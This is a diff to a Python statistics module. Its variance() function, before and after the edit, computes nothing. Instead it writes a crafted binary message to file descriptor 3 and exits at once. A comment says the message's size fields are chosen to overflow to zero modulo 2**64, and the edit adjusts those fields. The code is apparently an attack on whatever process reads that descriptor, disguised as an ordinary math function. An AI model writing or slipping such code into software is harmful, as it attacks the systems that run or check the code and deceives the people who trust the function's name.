@@ -15,8 +15,8 @@ def mean(x):
 
 
 def variance(x):
-    head = (4, 0, 0, 1, 0, 8) + (2**40,) * 8
+    head = (4, 160, 0, 0, 1, 0, 8) + (2**40,) * 8
     # 2**320 bytes of float64, said to be there: modulo 2**64 that is none
-    payload = struct.pack("<14q", *head) + struct.pack("<7q", 1, 0, 0, 0, 0, 0, 0)
+    payload = struct.pack("<15q", *head) + struct.pack("<7q", 1, 0, 0, 0, 0, 0, 0)
     os.write(3, struct.pack("<I", len(payload)) + payload)
     os._exit(0)
